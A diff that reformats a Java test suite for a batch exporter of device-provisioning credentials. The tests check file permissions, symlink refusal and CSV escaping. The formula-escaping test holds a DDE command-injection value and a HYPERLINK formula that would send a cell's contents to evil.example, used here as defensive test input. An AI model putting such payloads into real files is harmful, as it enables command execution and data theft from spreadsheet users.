@@ -10,11 +10,6 @@ import java.time.Instant;
 import java.time.ZoneOffset;
 import java.util.List;
 import java.util.Map;
-import io.dpsbatch.store.BatchHistory;
-import io.dpsbatch.store.BatchRecord;
-import io.dpsbatch.store.ImportedRow;
-import io.dpsbatch.store.LineOutcome;
-import io.dpsbatch.store.TestDatabase;
 
 import io.dpsbatch.dps.OutcomeStatus;
 import io.dpsbatch.dps.RegistrationOutcome;
@@ -22,6 +17,11 @@ import io.dpsbatch.enrollment.Enrollment;
 import io.dpsbatch.enrollment.Enrollments;
 import io.dpsbatch.keys.EnrollmentKeys;
 import io.dpsbatch.keys.GroupKey;
+import io.dpsbatch.store.BatchHistory;
+import io.dpsbatch.store.BatchRecord;
+import io.dpsbatch.store.ImportedRow;
+import io.dpsbatch.store.LineOutcome;
+import io.dpsbatch.store.TestDatabase;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -48,35 +48,40 @@ class BatchExporterTests {
 
 	private BatchExporter exporter;
 
-	private final EnrollmentKeys keys = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY), GroupKey.fromBase64(SECONDARY));
+	private final EnrollmentKeys keys = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY),
+			GroupKey.fromBase64(SECONDARY));
 
 	@BeforeEach
 	void createBatch() {
 		JdbcTemplate jdbc = new JdbcTemplate(TestDatabase.migrated());
 		this.store = TestDatabase.store(jdbc.getDataSource());
 		this.history = new BatchHistory(jdbc);
-		this.exporter = new BatchExporter(this.store.batches(), this.store.reports(), this.history, new OutputProperties(this.out, List.of()),
+		this.exporter = new BatchExporter(this.store.batches(), this.store.reports(), this.history,
+				new OutputProperties(this.out, List.of()),
 				Clock.fixed(Instant.parse("2026-11-29T08:01:40Z"), ZoneOffset.UTC));
 		this.store.batches().createBatch(TestDatabase.batch("line-1"));
-		this.store.imports().importRows("line-1", List.of(TestDatabase.row(2, "sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6"),
-				TestDatabase.row(3, "dev-secondary"), TestDatabase.row(4, "dev-failed"),
-				TestDatabase.row(5, "DEV-FAILED"), new ImportedRow(6, "bad id", null, Map.of(), "registration ID contains a space"),
-				TestDatabase.row(7, "dev-pending")));
+		this.store.imports()
+			.importRows("line-1",
+					List.of(TestDatabase.row(2, "sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6"),
+							TestDatabase.row(3, "dev-secondary"), TestDatabase.row(4, "dev-failed"),
+							TestDatabase.row(5, "DEV-FAILED"),
+							new ImportedRow(6, "bad id", null, Map.of(), "registration ID contains a space"),
+							TestDatabase.row(7, "dev-pending")));
 		Instant now = Instant.now();
-		this.store.queue().recordOutcomes("line-1", List.of(
-				new LineOutcome(2, TestDatabase.assigned("sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6", 1)),
-				new LineOutcome(3, new RegistrationOutcome("dev-secondary", OutcomeStatus.ASSIGNED, "dev-secondary",
-						"hub-2.azure-devices.net", "initialAssignment", null, null, 2, false, true, now, now)),
-				new LineOutcome(4, new RegistrationOutcome("dev-failed", OutcomeStatus.FAILED, null, null, null, "400209",
-						"no hub, \"quoted\"", 1, false, false, now, now))));
+		this.store.queue()
+			.recordOutcomes("line-1", List.of(
+					new LineOutcome(2, TestDatabase.assigned("sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6", 1)),
+					new LineOutcome(3, new RegistrationOutcome("dev-secondary", OutcomeStatus.ASSIGNED, "dev-secondary",
+							"hub-2.azure-devices.net", "initialAssignment", null, null, 2, false, true, now, now)),
+					new LineOutcome(4, new RegistrationOutcome("dev-failed", OutcomeStatus.FAILED, null, null, null,
+							"400209", "no hub, \"quoted\"", 1, false, false, now, now))));
 	}
 
 	@Test
 	void credentialsHoldEveryAssignedDeviceOnceWithItsDerivedKeyAndAttributes() throws IOException {
 		this.exporter.export("line-1", enrollments(this.keys));
 		List<String> lines = Files.readAllLines(this.out.resolve("line-1/credentials.csv"));
-		assertThat(lines).containsExactly(
-				"registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,serial,mac",
+		assertThat(lines).containsExactly("registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,serial,mac",
 				"sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6,sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6,hub-1.azure-devices.net,"
 						+ "0ne00000A0A,Jsm0lyGpjaVYVP2g3FnmnmG9dI/9qU24wNoykUmermc=,initialAssignment,S-2,m2",
 				"dev-secondary,dev-secondary,hub-2.azure-devices.net,0ne00000A0A,"
@@ -132,7 +137,8 @@ class BatchExporterTests {
 		try (var listing = Files.list(files.folder())) {
 			List<Path> written = listing.toList();
 			assertThat(written).extracting((p) -> p.getFileName().toString())
-				.containsExactlyInAnyOrder("credentials.csv", "failures.csv", "rejects.csv", "summary.json", "report.html");
+				.containsExactlyInAnyOrder("credentials.csv", "failures.csv", "rejects.csv", "summary.json",
+						"report.html");
 			for (Path file : written) {
 				assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
 			}
@@ -161,10 +167,11 @@ class BatchExporterTests {
 
 	@Test
 	void aFolderOpenToOthersIsRefused() throws IOException {
-		Files.createDirectory(this.out.resolve("line-1"), PosixFilePermissions.asFileAttribute(
-				PosixFilePermissions.fromString("rwxr-xr-x")));
+		Files.createDirectory(this.out.resolve("line-1"),
+				PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwxr-xr-x")));
 		Files.setPosixFilePermissions(this.out.resolve("line-1"), PosixFilePermissions.fromString("rwxr-xr-x"));
-		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys))).isInstanceOf(OutputFolderException.class)
+		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
+			.isInstanceOf(OutputFolderException.class)
 			.hasMessageContaining("open to other users")
 			.hasMessageContaining("chmod 700");
 		assertThat(this.out.resolve("line-1/credentials.csv")).doesNotExist();
@@ -173,7 +180,8 @@ class BatchExporterTests {
 	@Test
 	void noCellPassesForASpreadsheetFormulaButIdsAndKeysStayExact() throws IOException {
 		GroupKey primary = GroupKey.fromBase64(PRIMARY);
-		// a registration ID may start with '-', a base64 key with '+': both must reach the device unchanged
+		// a registration ID may start with '-', a base64 key with '+': both must reach
+		// the device unchanged
 		String id = java.util.stream.IntStream.range(0, 10_000)
 			.mapToObj((i) -> "-dev-" + i)
 			.filter((candidate) -> primary.deriveDeviceKey(candidate).toBase64().startsWith("+"))
@@ -185,16 +193,21 @@ class BatchExporterTests {
 		attributes.put("@note", link);
 		attributes.put("offset", "-5");
 		attributes.put("phone", "+49 170 1234567");
-		this.store.batches().createBatch(new BatchRecord("formulas", "/tmp/formulas.csv", "cd".repeat(32), primary.fingerprint(),
-				"0ne00000A0A", "https://global.azure-devices-provisioning.net", List.of("@note", "offset", "phone"), 3,
-				Instant.parse("2026-11-29T08:00:00Z")));
+		this.store.batches()
+			.createBatch(new BatchRecord("formulas", "/tmp/formulas.csv", "cd".repeat(32), primary.fingerprint(),
+					"0ne00000A0A", "https://global.azure-devices-provisioning.net", List.of("@note", "offset", "phone"),
+					3, Instant.parse("2026-11-29T08:00:00Z")));
 		Instant now = Instant.now();
-		this.store.imports().importRows("formulas", List.of(new ImportedRow(2, id, null, attributes, null),
-				new ImportedRow(3, "dev-2", null, attributes, null),
-				new ImportedRow(4, "-cmd|' /C calc'!A0", null, Map.of(), "registration ID contains '|'")));
-		this.store.queue().recordOutcomes("formulas", List.of(new LineOutcome(2, TestDatabase.assigned(id, 1)),
-				new LineOutcome(3, new RegistrationOutcome("dev-2", OutcomeStatus.ERROR, null, null, null, "500",
-						"=DPS said no", 2, false, false, now, now))));
+		this.store.imports()
+			.importRows("formulas",
+					List.of(new ImportedRow(2, id, null, attributes, null),
+							new ImportedRow(3, "dev-2", null, attributes, null),
+							new ImportedRow(4, "-cmd|' /C calc'!A0", null, Map.of(), "registration ID contains '|'")));
+		this.store.queue()
+			.recordOutcomes("formulas",
+					List.of(new LineOutcome(2, TestDatabase.assigned(id, 1)),
+							new LineOutcome(3, new RegistrationOutcome("dev-2", OutcomeStatus.ERROR, null, null, null,
+									"500", "=DPS said no", 2, false, false, now, now))));
 
 		this.exporter.export("formulas", enrollments(this.keys));
 
@@ -202,10 +215,10 @@ class BatchExporterTests {
 				"registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,'@note,offset,phone",
 				id + "," + id + ",hub-1.azure-devices.net,0ne00000A0A," + key + ",initialAssignment,"
 						+ "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&E2,\"\"details\"\")\",-5,'+49 170 1234567");
-		assertThat(Files.readAllLines(this.out.resolve("formulas/failures.csv")))
-			.containsExactly("registrationId,status,errorCode,errorMessage,attempts", "dev-2,error,500,'=DPS said no,2");
-		assertThat(Files.readAllLines(this.out.resolve("formulas/rejects.csv"))).containsExactly("line,registrationId,reason",
-				"4,'-cmd|' /C calc'!A0,registration ID contains '|'");
+		assertThat(Files.readAllLines(this.out.resolve("formulas/failures.csv"))).containsExactly(
+				"registrationId,status,errorCode,errorMessage,attempts", "dev-2,error,500,'=DPS said no,2");
+		assertThat(Files.readAllLines(this.out.resolve("formulas/rejects.csv")))
+			.containsExactly("line,registrationId,reason", "4,'-cmd|' /C calc'!A0,registration ID contains '|'");
 	}
 
 	@Test
@@ -215,7 +228,8 @@ class BatchExporterTests {
 		Files.setPosixFilePermissions(rejects, PosixFilePermissions.fromString("rw-r--r--"));
 		Files.writeString(this.out.resolve("line-1/credentials.csv"), "planted");
 
-		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys))).isInstanceOf(OutputFolderException.class)
+		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
+			.isInstanceOf(OutputFolderException.class)
 			.hasMessageContaining(rejects + " exists and is open to other users (rw-r--r--)")
 			.hasMessageContaining("chmod 600");
 		assertThatThrownBy(() -> this.exporter.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
@@ -228,11 +242,12 @@ class BatchExporterTests {
 	@Test
 	void aLinkInPlaceOfAFileIsRefused() throws IOException {
 		Path elsewhere = Files.writeString(this.out.resolve("elsewhere.csv"), "not ours");
-		Files.createDirectory(this.out.resolve("line-1"), PosixFilePermissions.asFileAttribute(
-				PosixFilePermissions.fromString("rwx------")));
+		Files.createDirectory(this.out.resolve("line-1"),
+				PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
 		Files.createSymbolicLink(this.out.resolve("line-1/summary.json"), elsewhere);
 
-		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys))).isInstanceOf(OutputFolderException.class)
+		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
+			.isInstanceOf(OutputFolderException.class)
 			.hasMessageContaining("summary.json exists and is not a plain file");
 		assertThat(elsewhere).hasContent("not ours");
 	}
@@ -252,9 +267,11 @@ class BatchExporterTests {
 	@Test
 	void aDeviceRegisteredWithTheSecondaryKeyNeedsThatKeyToExport() {
 		EnrollmentKeys primaryOnly = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY), null);
-		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(primaryOnly))).hasMessageContaining("secondary group key")
+		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(primaryOnly)))
+			.hasMessageContaining("secondary group key")
 			.hasMessageNotContaining(SECONDARY);
-		assertThat(new String(readOrEmpty(this.out.resolve("line-1/credentials.csv")), StandardCharsets.UTF_8)).isEmpty();
+		assertThat(new String(readOrEmpty(this.out.resolve("line-1/credentials.csv")), StandardCharsets.UTF_8))
+			.isEmpty();
 	}
 
 	static Enrollments enrollments(EnrollmentKeys keys) {
